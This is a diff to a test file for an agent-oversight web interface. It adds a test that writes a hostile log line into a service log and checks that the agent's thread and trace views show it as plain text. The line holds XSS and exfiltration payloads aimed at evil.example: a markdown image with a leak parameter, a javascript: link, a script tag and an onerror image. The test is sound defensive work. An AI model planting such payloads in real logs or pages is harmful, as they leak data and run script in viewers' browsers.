@@ -1,6 +1,6 @@
 // What keeps the agents in bounds, as a person sees it: rules, the audit log, alerts, and the way back.
 import assert from 'node:assert/strict';
-import { readFile, writeFile } from 'node:fs/promises';
+import { appendFile, readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { assertAccessible, launchBrowser, signIn, visit } from './browser.mjs';
@@ -164,6 +164,26 @@ test('a change of a file is rolled back as one more approved call', () =>
     assert.equal(await sourceOnDisk(), original);
     const { messages } = await installation.api(`/api/threads/${threadId(page)}`);
     assert.equal(messages.filter((message) => message.toolCalls?.some((call) => call.name === 'restore_file')).length, 1);
+  }));
+
+test('what a log line says is shown, and nothing of it is loaded or run', () =>
+  visit(browser, installation, { name: 'hostile-log' }, async (page) => {
+    const msg = '![leak](https://evil.example/p.png?leak=1) [open](javascript:globalThis.ran=1) <script>globalThis.ran=1</script> <img src="https://evil.example/i.png" onerror="globalThis.ran=1">';
+    await appendFile(join(installation.data, 'bookstore/logs/store-api.log'), `${JSON.stringify({ ts: new Date().toISOString(), level: 'ERROR', service: 'store-api', logger: 'store-api', msg })}\n`);
+    await signIn(page, await installation.freshLink());
+    await ask(page, 'Which services logged errors in the last hour, and what are they?');
+    await runEnds(page);
+    const harmless = async (where) => {
+      await page.getByText(/evil\.example\/p\.png/).first().waitFor();
+      assert.equal(await page.locator('main').locator('img, script, iframe, a[href^="javascript" i], a[href*="evil"]').count(), 0, where);
+      assert.equal(await page.evaluate(() => globalThis.ran), undefined, where);
+    };
+    await conversation(page).getByText('search_logs').first().click();
+    await harmless('in the thread');
+    const { runs } = await installation.api(`/api/threads/${threadId(page)}`);
+    await page.goto(`/runs/${runs[0].id}?q=search_logs&open=output`);
+    await page.getByRole('row', { name: /search_logs/ }).first().click();
+    await harmless('in the trace');
   }));
 
 test('a recording shows the whole incident, and nothing of it can be decided', () =>
